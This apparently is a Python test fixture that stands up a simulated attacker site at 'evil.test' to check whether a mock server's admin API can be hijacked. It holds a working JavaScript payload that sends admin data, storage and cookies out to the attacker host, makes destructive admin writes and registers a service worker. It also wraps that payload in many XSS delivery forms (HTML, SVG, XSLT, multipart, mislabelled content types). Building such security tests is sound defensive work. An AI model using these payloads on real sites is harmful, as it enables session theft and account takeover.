"""A foreign site: its pages, and what they have taken from the mock."""

import json
from dataclasses import dataclass, field
from typing import Final
from urllib.parse import quote

from aiohttp import web

HOST: Final = "evil.test"
_XHTML: Final = "http://www.w3.org/1999/xhtml"
_CORS: Final = {"Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "*"}
# A script in the mock's origin could do all of this; `TAG` names the way in which it got there.
_LOOTING: Final = """
(async () => {
  const tell = (what) => {
    const loot = 'SITE/loot?' + new URLSearchParams({ tag: 'TAG', what });
    fetch(loot, { mode: 'no-cors', keepalive: true }).catch(() => {});
    if (globalThis.document) new Image().src = loot;
    for (const other of [globalThis.opener, globalThis.parent]) other?.postMessage?.(loot, '*');
  };
  tell('ran');
  for (const path of ['callbacks', 'requests?unmasked=true', 'snapshot']) {
    fetch('MOCK/__admin/' + path).then((answer) => answer.text()).then((text) => tell('read ' + text), () => {});
  }
  for (const [method, path, body] of WRITES) fetch('MOCK/__admin/' + path, { method, body }).catch(() => {});
  try { tell('storage ' + JSON.stringify([sessionStorage, localStorage, document.cookie])); } catch { }
  try { navigator.serviceWorker.register('/callbackservice.js'); tell('service worker'); } catch { }
})();
"""
# Each would change the session: its clock, rules, slots, scenario or callbacks.
WRITES: Final = [
    ["POST", "reset", ""],
    ["POST", "clock/advance", '{"by": "1h"}'],
    ["POST", "rules", '{"name": "evil", "then": "garbage"}'],
    ["POST", "callbacks", '{"service": "sales", "phone": "+15550666"}'],
    ["PUT", "scenario", '{"name": "default"}'],
    ["PUT", "clock", '{"now": "2030-01-01T00:00:00Z"}'],
    ["DELETE", "sessions/kept", ""],
]


@dataclass
class ForeignSite:
    """A site at `url` that attacks the mock at `mock`; `loot` is what it has taken, each with its way."""

    mock: str
    url: str = ""
    loot: list[tuple[str, str]] = field(default_factory=list)

    async def start(self) -> web.AppRunner:
        """Listen at a free port, and return the runner that stops it."""
        application = web.Application()
        application.router.add_get("/", self._page)
        application.router.add_get("/loot", self._take)
        application.router.add_get("/payload/{kind}", self._payload)
        application.router.add_route("*", "/to", self._redirect)
        runner = web.AppRunner(application)
        await runner.setup()
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        self.url = f"http://{HOST}:{runner.addresses[0][1]}"
        return runner

    async def _page(self, _: web.Request) -> web.Response:
        return web.Response(text="<!doctype html><title>Elsewhere</title><body>", content_type="text/html")

    async def _take(self, request: web.Request) -> web.Response:
        self.loot.append((request.query["tag"], request.query["what"]))
        return web.Response(headers=_CORS)

    async def _payload(self, request: web.Request) -> web.Response:
        kind, body = self.payloads("own")[request.match_info["kind"]]
        return web.Response(body=body, headers={"Content-Type": kind})

    async def _redirect(self, request: web.Request) -> web.Response:
        return web.Response(status=307, headers={**_CORS, "Location": request.query["url"]})

    def script(self, tag: str) -> str:
        """Return the attack as a script."""
        names = {"TAG": tag, "SITE": self.url, "MOCK": self.mock, "WRITES": json.dumps(WRITES)}
        script = _LOOTING
        for name, value in names.items():
            script = script.replace(name, value)
        return script

    def payloads(self, way: str) -> dict[str, tuple[str, str]]:
        """Return the attack in each form that a browser runs, by its name: a content type, and a body."""

        def script(name: str) -> str:
            return self.script(f"{way}: {name}")

        def html(name: str) -> str:
            return f"<!doctype html><script>{script(name)}</script><img src=x onerror='parent.postMessage(1, `*`)'>"

        def xml(name: str) -> str:
            return f'<x><s xmlns="{_XHTML}"><script><![CDATA[{script(name)}]]></script></s></x>'

        def svg(name: str) -> str:
            return f'<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[{script(name)}]]></script></svg>'

        def xslt(name: str) -> str:
            sheet = '<xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
            body = f'{sheet}<xsl:template match="/">{xml(name)}</xsl:template></xsl:stylesheet>'
            return f'<?xml-stylesheet type="text/xsl" href="#s"?><x>{body}</x>'

        part = f"--a\r\nContent-Type: text/html\r\n\r\n{html('mixed')}\r\n--a--"
        return {
            "html": ("text/html", html("html")),
            "loud": (" TEXT/HTML; charset=UTF-8", html("loud")),
            "untyped": ("", html("untyped")),
            "broken": ("html", html("broken")),
            "unknown": ("unknown/unknown", html("unknown")),
            "two": ("application/json, text/html", html("two")),
            "plain": ("text/plain", html("plain")),
            "json": ("application/json", html("json")),
            "xhtml": ("application/xhtml+xml", f'<html xmlns="{_XHTML}"><body>{xml("xhtml")}</body></html>'),
            "svg": ("image/svg+xml", svg("svg")),
            "xml": ("text/xml", xml("xml")),
            "atom": ("application/atom+xml", xml("atom")),
            "xslt": ("application/xml", xslt("xslt")),
            "mixed": ("multipart/x-mixed-replace; boundary=a", part),
        }

    def addresses(self, way: str, path: str = "/callbacks/availability/sales") -> dict[str, str]:
        """Return the URLs at which the mock answers with each payload."""
        faults = {
            name: {"fault": "respond", "headers": {"Content-Type": kind}, "body": body}
            for name, (kind, body) in self.payloads(way).items()
        }
        return {name: f"{self.mock}{path}?__fault={quote(json.dumps(fault))}" for name, fault in faults.items()}
